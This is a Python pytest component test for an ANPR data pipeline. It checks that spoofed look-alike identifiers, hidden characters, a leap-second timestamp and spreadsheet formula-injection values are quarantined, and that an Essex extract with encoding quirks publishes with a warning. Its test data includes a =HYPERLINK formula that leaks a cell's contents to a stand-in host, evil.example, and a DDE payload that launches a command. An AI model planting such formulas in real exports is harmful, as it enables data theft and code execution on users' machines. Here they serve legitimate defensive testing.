"""Values a person or a spreadsheet would misread, through the pipeline (land -> process -> publish).

Norfolk's ANPR extract gets ids and camera ids with look-alike letters, hidden characters and
spreadsheet formulas, and a leap second: each such row is quarantined with its reason and every
other row publishes. Essex's (Windows-1252) gets a UTF-8 byte-order mark and a UTF-8 camera id:
the extract is read, published whole, and its ledger warning counts the UTF-8 value by column
without showing it. The pure functions are tested in tests/unit/test_odd_values.py.
"""

from __future__ import annotations

import datetime as dt
import re
import uuid
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from xforce import context
from xforce.exchange import land, process, publish
from xforce.intake.normalise import odd_ids
from xforce.store import layout
from xforce_tools.generate import extract_path, generate_night

pytestmark = pytest.mark.component

NIGHT = "2026-11-27"
DAY = dt.date.fromisoformat(NIGHT)
READS = 40


def _run(ctx: context.Context, forces: list[str]) -> None:
    run_id = f"test__{uuid.uuid4().hex[:8]}"
    land.scan_landing(ctx, NIGHT, run_id)
    for force in forces:
        process.process_extract(ctx, land.land_extract(ctx, NIGHT, force, "anpr_reads", run_id), run_id)
    publish.publish_night(ctx, NIGHT, run_id)


def _table(data_dir: Path, zone: str, force: str) -> pa.Table:
    return pq.read_table(data_dir / zone / layout.partition("anpr_reads", NIGHT, force) / "part-0.parquet")


def _field(line: bytes, i: int, value: bytes, sep: bytes = b",") -> bytes:
    """``line`` with its ``i``-th field replaced by ``value`` (quoted, quotes doubled)."""
    fields = line.split(sep)
    fields[i] = b'"' + value.replace(b'"', b'""') + b'"'
    return sep.join(fields)


#: record -> (field index, new value, expected reason); Norfolk: read_id, read_at, camera_id, ...
NORFOLK_EDITS: dict[int, tuple[int, str, str]] = {
    2: (0, "NFK-\u0410NPR-20261127-00000002", "bad_id"),  # Cyrillic A
    3: (2, "NFK-CAM\u200b-0003", "bad_id"),  # zero-width space
    4: (0, '=HYPERLINK("http://evil.example/?"&A1,"details")', "bad_id"),
    5: (0, "+cmd|' /C calc'!A0", "bad_id"),
    6: (0, "@SUM(A1:A9)", "bad_id"),
    7: (2, "NFK-\u202e3000-MAC", "bad_id"),  # right-to-left override
    8: (0, "-2+3", "bad_id"),
    9: (1, "leap", "impossible_timestamp"),  # the read's own time with second 60
    10: (0, "NFK-\u039fNPR-20261127-00000010", "bad_id"),  # Greek capital omicron
}


def test_odd_values_are_quarantined_or_flagged_and_the_clean_rows_publish(data_dir: Path) -> None:
    generate_night(
        DAY,
        data_dir / "landing",
        anpr_reads=READS,
        forces=["norfolk", "essex"],
        datasets=["anpr_reads"],
        defect_rate=0.0,
    )
    ctx = context.Context.from_env()

    nfk = extract_path(data_dir / "landing", "norfolk", "anpr_reads", DAY)
    lines = nfk.read_bytes().split(b"\n")
    for record, (i, value, _) in NORFOLK_EDITS.items():
        if value == "leap":
            old = lines[record].split(b",")[i].decode()
            new = re.sub(r":\d\dZ", ":60Z", old)
            assert new != old
            lines[record] = _field(lines[record], i, new.strip('"').encode())
        else:
            lines[record] = _field(lines[record], i, value.encode())
    nfk.write_bytes(b"\n".join(lines))

    esx = extract_path(data_dir / "landing", "essex", "anpr_reads", DAY)
    lines = esx.read_bytes().split(b"\n")
    lines[2] = _field(lines[2], 2, "ESX-CAMé€-0002".encode(), b";")  # UTF-8 in a Windows-1252 file
    lines[3] = _field(lines[3], 2, "ESX-CAM-£é-0003".encode("cp1252"), b";")  # what Windows-1252 is for
    esx.write_bytes(b"\xef\xbb\xbf" + b"\n".join(lines))  # a UTF-8 byte-order mark before the header

    _run(ctx, ["norfolk", "essex"])

    row: dict[str, Any] = ctx.ledger.get(NIGHT, "norfolk", "anpr_reads")
    assert row["status"] == "published", row
    assert row["rows_in"] == READS == row["rows_published"] + row["rows_quarantined"]
    assert row["reasons"] == {"bad_id": 8, "impossible_timestamp": 1}, row
    quar = _table(data_dir, "quarantine", "norfolk")
    assert {r["source_record"]: r["reason"] for r in quar.to_pylist()} == {k: v[2] for k, v in NORFOLK_EDITS.items()}
    pub = _table(data_dir, "curated", "norfolk")
    assert sorted(pub.column("source_record").to_pylist()) == [r for r in range(1, READS + 1) if r not in NORFOLK_EDITS]
    for name in ("source_id", "camera_id", "record_id"):  # nothing published a person would misread
        assert not any(odd_ids(pub.column(name).combine_chunks()).to_pylist()), name

    row = ctx.ledger.get(NIGHT, "essex", "anpr_reads")
    assert row["status"] == "published" and row["rows_published"] == READS, row  # the BOM refused nothing
    warning = row["warning"]
    assert "byte-order mark" in warning and "'Camera' 1" in warning, warning
    assert "ESX-CAM" not in warning and "é" not in warning and "Ã" not in warning  # counted, never shown
    cams = {r["source_record"]: r["camera_id"] for r in _table(data_dir, "curated", "essex").to_pylist()}
    assert cams[2] == "ESX-CAMÃ©â‚¬-0002"  # published as the contract decodes it: the warning says so
    assert cams[3] == "ESX-CAM-£é-0003"
